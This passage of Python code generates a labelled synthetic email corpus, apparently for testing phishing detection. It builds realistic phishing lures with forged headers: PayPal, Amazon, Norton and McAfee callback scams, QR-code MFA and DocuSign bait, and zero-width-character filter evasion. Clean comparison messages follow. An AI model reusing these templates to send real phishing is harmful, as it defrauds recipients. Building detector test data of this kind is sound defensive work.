\tby smtp.kowalczyk-transport.pl (Postfix) with ESMTPSA id 4{an(n, 'pf', 10)};
\t{fmtz(t - timedelta(seconds=2), "Europe/Warsaw")}
Date: {fmt(t - timedelta(seconds=3), "Europe/Warsaw")}
From: {who("Amazon.de", sender)}
To: {rcpt}
Subject: {ew("Ihr Amazon-Konto wurde vorübergehend eingeschränkt")}
Message-ID: <{hx(n, 'mid', 24)}@kowalczyk-transport.pl>
MIME-Version: 1.0
X-Mailer: Microsoft Outlook 16.0"""
    add(Msg(n, "phishing",
            "German Amazon 'account restricted' lure to a personal domain on IONOS, sent as 'Amazon.de' from a compromised "
            "Polish haulier's mailbox; link to an amazon.de lookalike on a .top domain",
            rcpt, t, "91.228.52.19", "smtp.kowalczyk-transport.pl", "smtp.kowalczyk-transport.pl", sender, "pass",
            [("kowalczyk-transport.pl", "x", "pass")], "none", head, alt(n, html2text(html), html, "outlook"),
            ctry="PL", lang="de"))


def p_paypal_invoice_callback() -> None:
    n = "b9-paypal-invoice-callback"
    t = at("2024-09-03 15:12:36")
    rcpt = "mikeandjen.porter@gmail.com"
    sender = "service@paypal.com"
    inv = f"INV2-{an(n, 'i1', 4).upper()}-{an(n, 'i2', 4).upper()}-{an(n, 'i3', 4).upper()}-{an(n, 'i4', 4).upper()}"
    link = f"https://www.paypal.com/invoice/p/#{inv}"
    note = ("Your PayPal account has been charged $499.99 for Norton 360 Total Protection 3-Year Renewal. If you did not "
            "authorize this transaction, call our billing desk immediately at +1 (808) 219-4476 to cancel and receive a "
            "full refund within 24 hours.")
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:'PayPal Sans',Helvetica,Arial,sans-serif;font-size:14px;color:#2c2e2f">
<table width="600" align="center"><tr><td style="padding:20px">
<img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="42" alt="PayPal">
<h2>Billing Department sent you an invoice for $499.99 USD</h2>
<p><b>Invoice details</b><br>Amount requested: $499.99 USD<br>Invoice number: 0072<br>Due on receipt</p>
<p><b>Note from seller</b><br>{note}</p>
<p><a href="{link}" style="background:#0070e0;color:#fff;padding:10px 26px;border-radius:20px;text-decoration:none">View and Pay Invoice</a></p>
<p style="font-size:12px;color:#6c7378">Don't recognize this invoice? <a href="https://www.paypal.com/us/smarthelp/contact-us">Report this invoice</a><br>
Before paying, make sure you recognize this invoice. If you don't, report it. Learn more about common security threats and how to spot them.</p>
<p style="font-size:11px;color:#6c7378">PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.<br>
Copyright &copy; 1999-2024 PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.</p>
</td></tr></table></body></html>
"""
    head = f"""{dkim(n, "paypal.com", "pp-dkim1", t, "Date:Message-ID:From:To:Subject:Content-Type:MIME-Version")}
Received: from paypal.com (qs-pp-mta-1a.qs.paypal.com [10.75.{num(n, 'q1', 1, 250)}.{num(n, 'q2', 1, 250)}])
\tby mx0.slc.paypal.com (Postfix) with ESMTP id {hx(n, 'pp', 11).upper()}
\tfor <{rcpt}>; {fmtz(t - timedelta(seconds=1), "America/Los_Angeles")}
Date: {fmt(t - timedelta(seconds=2), "America/Los_Angeles")}
Message-ID: <{hx(n, 'ppmid', 32)}@paypal.com>
From: {who("service@paypal.com", sender)}
To: {rcpt}
Subject: Billing Department sent you an invoice for $499.99 USD
X-Email-Type-Id: PPX001236
X-PP-REQUESTED-TIME: {int(t.timestamp() * 1000) - 4120}
X-PP-Email-transmission-Id: {guid(n, 'ppt')}
PP-Correlation-Id: {hx(n, 'ppc', 13)}
Content-Language: en_US
MIME-Version: 1.0"""
    add(Msg(n, "phishing",
            "Callback scam delivered through PayPal's own invoicing (SPF/DKIM/DMARC all pass for paypal.com): a $499.99 "
            "'Norton renewal' invoice whose seller note urges the victim to call a phone number to cancel",
            rcpt, t, "173.0.84.226", "mx0.slc.paypal.com", "mx0.slc.paypal.com", sender, "pass",
            [("paypal.com", "pp-dkim1", "pass")], "pass", head, alt(n, html2text(html), html, "java"), dmarc_p="reject"))


def p_paypal_compte_limite() -> None:
    n = "b9-paypal-compte-limite"
    t = at("2022-02-08 10:51:44")
    rcpt = "claire@famille-lebreton.fr"
    sender = "service@intl-paypal-resolution.fr"
    link = f"https://paypal.fr-resolution-centre.com/signin?case=PP-{num(n, 'c', 100000, 999999)}-{num(n, 'c2', 1000, 9999)}"
    html = brand_mail("PayPal", "#003087", [
        "Bonjour,",
        "Nous avons remarqué une activité inhabituelle sur votre compte PayPal. Par mesure de précaution, "
        "<b>l'accès à certaines fonctionnalités de votre compte a été temporairement limité</b>.",
        "Pour rétablir l'accès, connectez-vous et confirmez vos informations. Si vous ne le faites pas sous 72 heures, "
        "votre compte sera définitivement limité."],
        ("Se connecter", link),
        "Copyright &copy; 1999-2022 PayPal. Tous droits réservés. PayPal (Europe) S.à r.l. et Cie, S.C.A.")
    head = kit_head(n, t, "mail.intl-paypal-resolution.fr", "intl-paypal-resolution.fr", rcpt, "PayPal", sender,
                    "Votre compte PayPal a été temporairement limité", "Europe/Paris")
    add(Msg(n, "phishing",
            "French PayPal 'account limited' lure to a personal domain on OVH from a PayPal lookalike .fr domain; sign-in link "
            "to paypal.fr as a subdomain of an unrelated .com",
            rcpt, t, "185.244.150.19", "mail.intl-paypal-resolution.fr", "mail.intl-paypal-resolution.fr", sender, "pass",
            [("intl-paypal-resolution.fr", "default", "pass")], "none", head, alt(n, html2text(html), html), ctry="NL",
            score=14, lang="fr"))


def p_geeksquad_pdf_callback() -> None:
    n = "b9-geeksquad-pdf-callback"
    t = at("2022-10-25 13:26:51")
    rcpt = "dmckenna@comcast.net"
    sender = "kimberly.howard482@gmail.com"
    inv = f"GS-{num(n, 'inv', 10000000, 99999999)}"
    pdf = files.pdf(["GEEK SQUAD  |  Best Buy Co., Inc.", "", f"INVOICE {inv}", "Date: 10/25/2022", "",
                     "Item: Geek Squad Protection - Total Tech Support (2 Years)", "Quantity: 1",
                     "Payment method: Auto-debit", "TOTAL: $349.99", "",
                     "Your subscription has been renewed and the amount will be debited",
                     "within 24 hours. If you did not authorize this renewal or wish to",
                     "cancel, call our Billing Department: +1 (855) 470-2193", "(Mon-Sat 9am-6pm EST)."],
                    title=f"Invoice {inv}")
    text = f"""Dear Customer,

Thank you for your continued membership. Your Geek Squad Total Tech Support plan has been renewed successfully.
Please find your invoice {inv} attached for your records.

For any queries or cancellation, contact our helpdesk at +1 (855) 470-2193.

Regards,
Geek Squad Billing Team
"""
    html = "<div dir=\"ltr\">" + "".join(f"<div>{line}</div>" if line else "<div><br></div>" for line in text.split("\n")) + "</div>\n"
    body = mixed(n, [alt(n, text, html, "gmail", 0), att("application/pdf", f"Invoice_{inv}.pdf", pdf)], "gmail", 1)
    head = f"""{gmail_sender_head(n, t)}
MIME-Version: 1.0
From: {who("Geek Squad", sender)}
Date: {fmt(t - timedelta(seconds=3), "Asia/Kolkata")}
Message-ID: {gmail_mid(n)}
Subject: Your Order Confirmation #{inv}
To: {rcpt}"""
    add(Msg(n, "phishing",
            "Geek Squad auto-renewal callback scam to a Comcast mailbox from a free Gmail account: no link, a PDF 'invoice' "
            "for $349.99 and a phone number to call to cancel",
            rcpt, t, "209.85.214.172", "mail-pl1-f172.google.com", "mail-pl1-f172.google.com", sender, "pass",
            [("gmail.com", gsel(t), "pass")], "pass", head, body, score=0.4))


def p_norton_zero_width() -> None:
    n = "b9-norton-zero-width"
    t = at("2026-04-14 12:40:03")
    rcpt = "mikeandjen.porter@gmail.com"
    sender = "hbrown.billing2291@outlook.com"
    words = ["Norton", "LifeLock", "Renewal", "refund", "cancel", "subscription", "charged"]
    body_text = zw(f"""Hello Customer,

Your Norton 360 with LifeLock Deluxe subscription has been renewed and charged today.

Renewal Details
Invoice No: NR{num(n, 'i', 100000000, 999999999)}
Product: Norton 360 with LifeLock Deluxe (5 Devices)
Amount: $429.99 USD
Payment: Auto-Debit
Date: 04/14/2026

If you did not authorize this charge or wish to cancel the subscription and get a full refund, please call our support team at +1 (808) 594-2217 within 24 hours of receiving this email.

Thank you,
Norton Billing Department
""", words)
    head = f"""{dkim(n, "outlook.com", "selector1", t, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")}
{r_m365_out(n, "DU0P190", "EURP190", t - timedelta(seconds=2))}
From: {who("Norton Billing", sender)}
To: {who("", rcpt)}
Subject: {ew(zw("Norton Renewal Confirmation - Order processed", ["Norton", "Renewal"]))}
Thread-Topic: {ew(zw("Norton Renewal Confirmation - Order processed", ["Norton", "Renewal"]))}
Thread-Index: {b64(n, 'thi', 30)}==
Date: {fmt(t - timedelta(seconds=3))}
Message-ID: {outlook_mid(n, "DU0P190", "EURP190")}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
x-ms-exchange-messagesentrepresentingtype: 1
MIME-Version: 1.0"""
    add(Msg(n, "phishing",
            "Norton 360 renewal callback scam ($429.99, 'call within 24 hours for a refund') from a free Outlook.com account; "
            "plain text with zero-width spaces inside brand and trigger words",
            rcpt, t, "40.92.58.71", "mail-am6eur05olkn2071.outbound.protection.outlook.com",
            "EUR05-AM6-obe.outbound.protection.outlook.com", sender, "pass", [("outlook.com", "selector1", "pass")], "pass",
            head, plain(body_text)))


def p_mcafee_image_only() -> None:
    n = "b9-mcafee-image-only"
    t = at("2024-12-10 16:18:25")
    rcpt = "robert.haines@comcast.net"
    sender = "ventas@ecoventa-muebles.mx"
    phone = "+1 (844) 512-0943"
    inv = f"MC-{num(n, 'i', 1000000, 9999999)}"
    image = banner_png([("Auto-Renewal Successful", 28, (20, 20, 20)), ("", 8, (0, 0, 0)),
                        (f"Invoice #: {inv}", 19, (60, 60, 60)), ("Product: McAfee Total Protection - 5 Devices", 19, (60, 60, 60)),
                        ("Term: 3 Years", 19, (60, 60, 60)), ("Amount charged: $389.99", 19, (60, 60, 60)), ("", 8, (0, 0, 0)),
                        ("Did not authorize this renewal? Call our billing team now:", 19, (60, 60, 60)),
                        (phone, 30, (192, 0, 0))],
                       (620, 470), header=("McAfee", (192, 0, 0)))
    cid = f"image001.png@01DB4B2A.{hx(n, 'cid', 8).upper()}"
    html = (f'<html><body><p><img src="cid:{cid}" width="620" height="470" alt="McAfee Renewal - Invoice {inv} - '
            f'Billing {phone}"></p></body></html>\n')
    body = related(n, [html_only(html), inline_img("image/png", "image001.png", image, cid)], "outlook", 0)
    head = f"""Received: from [154.127.57.203] (port=51877 helo=[10.0.0.4])
\tby mx-srv14.hostgator-mx.com with esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384
\t(Exim 4.96.2)
\t(envelope-from <{sender}>)
\tid {an(n, 'se1', 6)}-{an(n, 'se2', 6)}-{an(n, 'se3', 2)};
\t{fmt(t - timedelta(seconds=2), "America/Chicago")}
From: {who("McAfee Billing", sender)}
To: {rcpt}
Subject: McAfee Total Protection - Auto-Renewal Successful [Invoice# {inv}]
Date: {fmt(t - timedelta(seconds=3), "America/Mexico_City")}
Message-ID: <{hx(n, 'mid', 24).upper()}@ecoventa-muebles.mx>
MIME-Version: 1.0"""
    add(Msg(n, "phishing",
            "Image-only McAfee auto-renewal callback scam to a Comcast mailbox: the body is one inline PNG showing a $389.99 "
            "invoice and a phone number to call; sent as 'McAfee Billing' from a compromised Mexican furniture shop's mailbox",
            rcpt, t, "192.185.48.201", "mx-srv14.hostgator-mx.com", "mx-srv14.hostgator-mx.com", sender, "pass", [], "none",
            head, body, score=0.9))


def p_mfa_qr_inline() -> None:
    n = "b9-mfa-qr-inline"
    t = at("2023-09-12 07:34:19")
    rcpt = "office@harrowfield-dental.co.uk"
    sender = "no-reply@secure-m365-auth.com"
    url = f"https://harrowfield-dental.m365-reauth.com/?e={base64.b64encode(rcpt.encode()).decode()}"
    png = files.qr_png(url)
    cid = f"qr{hx(n, 'cid', 10)}@secure-m365-auth.com"
    html = f"""<html><body style="font-family:'Segoe UI',Arial,sans-serif;font-size:14px;color:#333">
<p><b>Microsoft 365</b></p>
<p>Multi-factor authentication for <b>{rcpt}</b> must be re-enrolled by <b>15/09/2023</b>.</p>
<p>Scan the QR code below with your phone's camera to update your authentication settings.</p>
<p><img src="cid:{cid}" width="222" height="222" alt="QR"></p>
<p style="font-size:11px;color:#888">If the MFA is not updated your account will be signed out from all devices.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>
</body></html>
"""
    text = (f"Microsoft 365\n\nMulti-factor authentication for {rcpt} must be re-enrolled by 15/09/2023.\n"
            "Scan the QR code with your phone's camera to update your authentication settings.\n")
    body = related(n, [alt(n, text, html, "php", 0), inline_img("image/png", "qrcode.png", png, cid)], "php", 2)
    head = kit_head(n, t, "mail.secure-m365-auth.com", "secure-m365-auth.com", rcpt, "Microsoft 365 Admin", sender,
                    f"Action Required: Re-authenticate MFA for {rcpt}")
    add(Msg(n, "phishing",
            "QR-code phishing ('quishing'): MFA re-enrolment lure to a UK dental practice on Microsoft 365 from a lookalike "
            "domain; the only link is inside an inline QR PNG pointing to a subdomain named after the victim on an m365 lookalike",
            rcpt, t, "146.70.118.6", "mail.secure-m365-auth.com", "mail.secure-m365-auth.com", sender, "pass",
            [("secure-m365-auth.com", "default", "pass")], "none", head, body, ctry="GB"))


def p_docusign_qr_pdf() -> None:
    n = "b9-docusign-qr-pdf"
    t = at("2026-01-20 08:45:10")
    rcpt = "m.albrecht@schreinerei-albrecht.de"
    sender = "dokumente@vertrags-signatur.de"
    url = f"https://sign-docu.de-vertrag.online/?id={hx(n, 'id', 16)}&e={rcpt}"
    pdf = qr_pdf(url, ["DocuSign  -  Dokument zur Unterschrift", "",
                       "Rahmenvertrag 2026 - Schreinerei Albrecht", "",
                       "Bitte scannen Sie den QR-Code mit der Kamera Ihres Smartphones,",
                       "um das Dokument zu pruefen und elektronisch zu unterschreiben.",
                       "Der Zugang ist 48 Stunden gueltig."], "Rahmenvertrag 2026")
    html = """<html><body style="font-family:Arial,sans-serif;font-size:14px">
<p>Guten Tag,</p>
<p>Sie haben ein Dokument zur elektronischen Unterschrift erhalten: <b>Rahmenvertrag 2026</b>.</p>
<p>Bitte öffnen Sie den Anhang und folgen Sie den Anweisungen. Das Dokument ist 48 Stunden verfügbar.</p>
<p>Mit freundlichen Grüßen<br>DocuSign Dokumentenservice</p>
</body></html>
"""
    body = mixed(n, [alt(n, html2text(html), html, "php", 0),
                     att("application/pdf", "Rahmenvertrag_2026_Schreinerei_Albrecht.pdf", pdf)])
    head = kit_head(n, t, "mail.vertrags-signatur.de", "vertrags-signatur.de", rcpt, "DocuSign Dokumentenservice", sender,
                    "Dokument zur Unterschrift: Rahmenvertrag 2026", "Europe/Berlin")
    add(Msg(n, "phishing",
            "German DocuSign-themed lure from a throwaway .de domain whose PDF holds only a QR code (no clickable link) to a "
            "signing page on a .online domain carrying the recipient's address",
            rcpt, t, "185.239.236.51", "mail.vertrags-signatur.de", "mail.vertrags-signatur.de", sender, "pass",
            [("vertrags-signatur.de", "default", "pass")], "none", head, body, ctry="DE", lang="de"))


def p_kpn_mailbox_deactivated() -> None:
    n = "b9-kpn-mailbox-deactivated"
    t = at("2022-11-15 11:08:29")
    rcpt = "w.bakker@kpnmail.nl"
    sender = "info@dierenartspraktijk-hoeve.nl"
    link = "https://kpnmail-nl-beheer.weebly.com/"
    html = brand_mail("KPN Mail", "#00c300", [
        "Beste klant,",
        f"Uw mailbox <b>{rcpt}</b> is niet geverifieerd volgens ons nieuwe beveiligingsbeleid.",
        "Verifieer uw mailbox binnen 24 uur, anders wordt deze <b>gedeactiveerd</b> en gaan al uw e-mails verloren."],
        ("Mailbox verifiëren", link),
        "KPN Mail Beheer &middot; Dit is een automatisch bericht.")
    head = f"""{dkim(n, "dierenartspraktijk-hoeve.nl", "x", t)}
{r_exim_auth(n, "vps12.webhostingnl.net", "105.112.181.44", sender, rcpt, t - timedelta(seconds=2), "Europe/Amsterdam")}
Date: {fmt(t - timedelta(seconds=3), "Europe/Amsterdam")}
From: {who("KPN Mail Beheer", sender)}
To: {rcpt}
Subject: Uw KPN mailbox wordt gedeactiveerd
Message-ID: {roundcube_mid(n, "dierenartspraktijk-hoeve.nl")}
User-Agent: Roundcube Webmail/1.5.3
MIME-Version: 1.0"""
    add(Msg(n, "phishing",
            "Dutch 'your KPN mailbox will be deactivated' webmail lure to a kpnmail.nl address, sent as 'KPN Mail Beheer' "
            "from a compromised veterinary practice's mailbox; link to a free Weebly site",
            rcpt, t, "31.187.71.44", "vps12.webhostingnl.net", "vps12.webhostingnl.net", sender, "pass",
            [("dierenartspraktijk-hoeve.nl", "x", "pass")], "none", head, alt(n, html2text(html), html, "roundcube"),
            ctry="NL", lang="nl"))


def p_aruba_dominio_scaduto() -> None:
    n = "b9-aruba-dominio-scaduto"
    t = at("2023-03-07 09:57:48")
    rcpt = "info@ferramenta-gallo.it"
    sender = "rinnovi@aruba-servizi-domini.com"
    link = "https://aruba-rinnovo-dominio.000webhostapp.com/rinnovo/?d=ferramenta-gallo.it"
    html = brand_mail("Aruba.it", "#e8730d", [
        "Gentile Cliente,",
        "il servizio <b>ferramenta-gallo.it</b> è scaduto il 06/03/2023 e il rinnovo automatico non è andato a buon fine "
        "per un problema con il metodo di pagamento.",
        "Per evitare la cancellazione del dominio e delle caselle e-mail associate, procedi al rinnovo manuale entro 48 ore "
        "(importo: 6,99 &euro; + IVA)."],
        ("Rinnova ora", link),
        "Aruba S.p.A. &middot; Via San Clemente 53, 24036 Ponte San Pietro (BG)")
    head = kit_head(n, t, "mail.aruba-servizi-domini.com", "aruba-servizi-domini.com", rcpt, "Aruba.it", sender,
                    "Avviso: il dominio ferramenta-gallo.it è scaduto - rinnovo non riuscito", "Europe/Rome")
    add(Msg(n, "phishing",
            "Italian Aruba 'domain expired, renewal failed' lure naming the recipient's own domain, from an Aruba lookalike "
            "domain; 'Rinnova ora' link to a free 000webhostapp page that collects card data",
            rcpt, t, "45.14.224.190", "mail.aruba-servizi-domini.com", "mail.aruba-servizi-domini.com", sender, "pass",
            [("aruba-servizi-domini.com", "default", "pass")], "none", head, alt(n, html2text(html), html), ctry="NL",
            score=2.2, lang="it"))


# ===========================================================================
# Legitimate: person-to-person and small-business mail (clean)
# ===========================================================================


def gmail_html(text: str) -> str:
    """Gmail's HTML rendering of a plain message: one div per line."""
    from html import escape

    out = []
    for line in text.rstrip("\n").split("\n"):
        esc = escape(line)
        esc = re.sub(r"(https://[^\s<]+)", r'<a href="\1">\1</a>', esc)
        out.append(f"<div>{esc}</div>" if line else "<div><br></div>")
    return '<div dir="ltr">' + "".join(out) + "</div>\n"


def c_friend_photo_album() -> None:
    n = "b9-friend-photo-album"
    t = at("2023-08-21 19:42:10")
    rcpt = "sarah.whitlock84@gmail.com"
    sender = "rachel.nkemelu@gmail.com"
    text = f"""Hey Sarah!

Finally got round to sorting the photos from Cornwall - here's the album:
https://photos.app.goo.gl/{an(n, 'album', 17)}

Download whatever you like. The one of Milo falling off the paddleboard is my favourite, sorry not sorry.

Are we still on for the 9th? I can bring the dessert this time.

R x
"""
    head = f"""{gmail_sender_head(n, t)}
MIME-Version: 1.0
From: {who("Rachel Nkemelu", sender)}
Date: {fmt(t - timedelta(seconds=3), "Europe/London")}
Message-ID: {gmail_mid(n)}
Subject: Cornwall photos!!
To: {who("Sarah Whitlock", rcpt)}"""
    add(Msg(n, "clean",
            "A friend's Gmail message sharing a Google Photos album (photos.app.goo.gl link) after a holiday, plus plans for "
            "the next meeting; Gmail to Gmail, all authentication passes",
            rcpt, t, "209.85.220.41", "mail-sor-f41.google.com", "mail-sor-f41.google.com", sender, "pass",
            [("gmail.com", gsel(t), "pass")], "pass", head, alt(n, text, gmail_html(text), "gmail")))


def c_plumber_invoice_pdf() -> None:
    n = "b9-plumber-invoice-pdf"
    t = at("2024-03-19 16:05:48")
    rcpt = "reception@harrowfield-dental.co.uk"
    sender = "dave@brightwater-plumbing.co.uk"
    pdf = files.pdf(["Brightwater Plumbing & Heating", "14 Mill Lane, Harrowfield HF3 2QT  -  Gas Safe reg. 558213",
                     "", "INVOICE 2024-0147                      Date: 19/03/2024",
                     "To: Harrowfield Dental Practice, 2 Station Road, Harrowfield", "",
                     "Replace 3 x thermostatic radiator valves (surgery 2, waiting room)     GBP 186.00",
                     "Annual boiler service and gas safety certificate (CP12)                GBP  95.00",
                     "Parts: Danfoss RAS-C2 heads x3, valve bodies x3                         GBP  72.60",
                     "", "Subtotal GBP 353.60     VAT 20% GBP 70.72     TOTAL GBP 424.32", "",
                     "Payment within 30 days by bank transfer, reference 2024-0147.",
                     "Bank details as on previous invoices (Brightwater Plumbing Ltd).",
                     "Thank you for your business."], title="Invoice 2024-0147")
    text = """Hi Karen,

Invoice attached for the radiator valves and the boiler service last Thursday. The CP12 certificate is in the post, I'll drop a copy in as well next time I'm passing.

Any questions just give me a ring.

Cheers,
Dave

--
Dave Hollis
Brightwater Plumbing & Heating
07700 914 382
"""
    body = mixed(n, [plain(text, "7bit"), att("application/pdf", "Invoice-2024-0147.pdf", pdf)], "mimepart", 1)
    body.boundary = f"------------{an(n, 'tb', 24)}"
    head = f"""{dkim(n, "brightwater-plumbing.co.uk", "default", t, "Content-Type:Subject:From:To:MIME-Version:Date:Message-ID:Sender:Reply-To")}
Received: from host86-171-44-19.range86-171.btcentralplus.com ([86.171.44.19]:50412 helo=[192.168.1.64])
\tby s214.uk-webhost-cloud.net with esmtpsa  (TLS1.3) tls TLS_AES_128_GCM_SHA256
\t(Exim 4.96.2)
\t(envelope-from <{sender}>)
\tid {an(n, 'se1', 6)}-{an(n, 'se2', 6)}-{an(n, 'se3', 2)}
\tfor {rcpt};
\t{fmt(t - timedelta(seconds=2), "Europe/London")}
Message-ID: <{guid(n, 'tbmid')}@brightwater-plumbing.co.uk>
Date: {fmt(t - timedelta(seconds=3), "Europe/London")}
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: en-GB
To: {who("Harrowfield Dental Reception", rcpt)}
From: {who("Dave Hollis", sender)}
Subject: Invoice 2024-0147 - TRVs and boiler service"""
    add(Msg(n, "clean",
            "A local plumber's Thunderbird message from his own cPanel mailbox with a PDF invoice for work done at the "
            "dental practice (bank details 'as on previous invoices'); SPF/DKIM pass",
            rcpt, t, "185.211.4.214", "s214.uk-webhost-cloud.net", "s214.uk-webhost-cloud.net", sender, "pass",
            [("brightwater-plumbing.co.uk", "default", "pass")], "pass", head, body, dmarc_p="none", ctry="GB"))


def c_accountant_reply_thread() -> None:
    n = "b9-accountant-reply-thread"
    t = at("2024-04-16 09:22:31")
    rcpt = "pieter@dewitt-thuis.nl"
    sender = "marieke@hoekstra-accountants.nl"
    prev = f"<{hx(n, 'prev', 20)}@dewitt-thuis.nl>"
    text = """Hoi Pieter,

Dank voor je mail. Voor de aangifte inkomstenbelasting 2023 heb ik nog de volgende stukken nodig:

- de jaaropgaaf 2023 van je werkgever
- de WOZ-beschikking 2023 van de gemeente
- het jaaroverzicht van je hypotheek (rente en restschuld per 31-12)

Je kunt ze gewoon als bijlage terugmailen. De aangifte moet uiterlijk 1 mei binnen zijn; als het niet lukt vraag ik uitstel voor je aan, dat is geen probleem.

Met vriendelijke groet,

Marieke Hoekstra
Hoekstra Accountants
Tel. 058 213 44 90

________________________________
Van: Pieter de Witt <pieter@dewitt-thuis.nl>
Verzonden: maandag 15 april 2024 21:14
Aan: Marieke Hoekstra <marieke@hoekstra-accountants.nl>
Onderwerp: aangifte 2023

Hoi Marieke,

Kun jij dit jaar weer onze aangifte doen? Wat heb je van ons nodig?

Groet,
Pieter
"""
    from html import escape
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)">'
            + "<br>\n".join(escape(line) for line in text.rstrip().split("\n")) + "</div></body></html>\n")
    head = f"""{dkim(n, "hoekstra-accountants.nl", "selector1", t, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")}
{r_m365_out(n, "AS8PR08", "eurprd08", t - timedelta(seconds=2))}
From: {who("Marieke Hoekstra", sender)}
To: {who("Pieter de Witt", rcpt)}
Subject: RE: aangifte 2023
Thread-Topic: aangifte 2023
Thread-Index: {b64(n, 'thi', 30)}==
Date: {fmt(t - timedelta(seconds=3))}
Message-ID: {outlook_mid(n, "AS8PR08", "eurprd08")}
References: {prev}
In-Reply-To: {prev}
Accept-Language: nl-NL, en-US
Content-Language: nl-NL
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add(Msg(n, "clean",
            "Dutch accountant's Outlook reply in an existing thread listing the documents needed for the 2023 income-tax "
            "return; sent from her Microsoft 365 tenant with aligned DKIM/DMARC, no links",
            rcpt, t, "40.107.22.92", "mail-am6eur05on2092.outbound.protection.outlook.com",
            "EUR05-AM6-obe.outbound.protection.outlook.com", sender, "pass", [("hoekstra-accountants.nl", "selector1", "pass")],
            "pass", head, alt(n, text, html, "outlook"), dmarc_p="quarantine", ctry="NL", lang="nl"))


def c_uni_sharepoint_colleague() -> None:
    n = "b9-uni-sharepoint-colleague"
    t = at("2025-06-03 13:47:02")
    rcpt = "l.carter@ashgrove.ac.uk"
    sender = "j.patel@ashgrove.ac.uk"
    link = (f"https://ashgroveacuk-my.sharepoint.com/:x:/g/personal/j_patel_ashgrove_ac_uk/"
            f"E{an(n, 'sp', 45)}?e={an(n, 'e', 6)}")
    text = f"""Hi Lucy,

Here's the marking sheet for the MSc dissertations - I've given you edit access:
{link}

Second-marker column (G) is yours. Could you get your marks in by Friday 13th so we can reconcile before the exam board on the 18th?

Thanks,
Jay

Dr Jay Patel
School of Computing, Ashgrove University
"""
    from html import escape
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt">'
            + "<br>\n".join(escape(line) if line != link else f'<a href="{link}">{escape(link)}</a>'
                            for line in text.rstrip().split("\n")) + "</div></body></html>\n")
    head = f"""From: {who("Jay Patel", sender)}
To: {who("Lucy Carter", rcpt)}
Subject: MSc dissertation marking sheet
Thread-Topic: MSc dissertation marking sheet
Thread-Index: {b64(n, 'thi', 30)}==
Date: {fmt(t)}
Message-ID: {outlook_mid(n, "CWLP265", "gbrp265")}
Accept-Language: en-GB, en-US
Content-Language: en-GB
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add(Msg(n, "clean",
            "Internal university mail between two colleagues on the same Microsoft 365 tenant sharing the department's "
            "OneDrive/SharePoint marking spreadsheet (tenant's own -my.sharepoint.com address)",
            rcpt, t, "127.0.0.1", None, "localhost", sender, "none", [], "none", head,
            alt(n, text, html, "outlook"), internal=True, ctry="GB"))


def c_nebenkosten_vermieter() -> None:
    n = "b9-nebenkosten-vermieter"
    t = at("2024-05-28 17:31:05")
    rcpt = "jens@familie-krueger.de"
    sender = "gisela.brandt@t-online.de"
    pdf = files.pdf(["Gisela Brandt  -  Lindenstrasse 12  -  34117 Kassel", "",
                     "Betriebskostenabrechnung 2023  -  Wohnung 2. OG rechts (Familie Krueger)", "",
                     "Grundsteuer                       312,40 EUR", "Wasser / Abwasser                 486,10 EUR",
                     "Muellabfuhr                       198,60 EUR", "Heizung (lt. Ablesung Techem)   1.104,30 EUR",
                     "Hausreinigung / Treppenhaus       240,00 EUR", "Gebaeudeversicherung              207,00 EUR",
                     "", "Ihr Anteil gesamt:              2.342,40 EUR",
                     "Geleistete Vorauszahlungen:      2.256,00 EUR", "Nachzahlung:                        86,40 EUR", "",
                     "Bitte ueberweisen Sie den Betrag bis 30.06.2024 auf das bekannte Konto."],
                    title="Betriebskostenabrechnung 2023")
    text = """Lieber Herr Krüger,

anbei die Nebenkostenabrechnung für 2023. Es ergibt sich eine kleine Nachzahlung von 86,40 Euro, die Sie bitte bis Ende Juni wie immer auf mein Konto überweisen.

Die Ablesebelege von Techem kann ich Ihnen gern zeigen, wenn Sie möchten. Die Vorauszahlung lasse ich unverändert.

Viele Grüße aus dem Erdgeschoss
Gisela Brandt
"""
    body = mixed(n, [plain(text), att("application/pdf", "Nebenkosten_2023_Krueger.pdf", pdf)], "java", 1)
    head = f"""Received: from fwd{num(n, 'fwd', 70, 89)}.aul.t-online.de ([10.223.144.{num(n, 'fi', 2, 250)}])
\tby mailout11.t-online.de with (TLSv1.3:TLS_AES_256_GCM_SHA384 encrypted)
\tesmtp id 1{an(n, 'mo1', 5)}-{an(n, 'mo2', 7)}; {fmt(t - timedelta(seconds=1), "Europe/Berlin")}
Received: from [192.168.178.27] ([91.48.{num(n, 'ci1', 1, 250)}.{num(n, 'ci2', 1, 250)}]) by fwd{num(n, 'fwd', 70, 89)}.aul.t-online.de
\twith (TLSv1.3:TLS_AES_256_GCM_SHA384 encrypted)
\tesmtp id 1{an(n, 'fw1', 5)}-{an(n, 'fw2', 7)}; {fmt(t - timedelta(seconds=2), "Europe/Berlin")}
Date: {fmt(t - timedelta(seconds=3), "Europe/Berlin")}
From: {who("Gisela Brandt", sender)}
To: {who("Jens Krüger", rcpt)}
Message-ID: <{hx(n, 'mid', 16)}.{num(n, 'mid2', 100000, 999999)}@email.t-online.de>
Subject: Nebenkostenabrechnung 2023
MIME-Version: 1.0
X-Mailer: Telekom Mail"""
    add(Msg(n, "clean",
            "German landlady's message from her own t-online.de mailbox with the 2023 service-charge statement as PDF "
            "(86,40 EUR to be paid 'to the usual account', no new bank details, no links)",
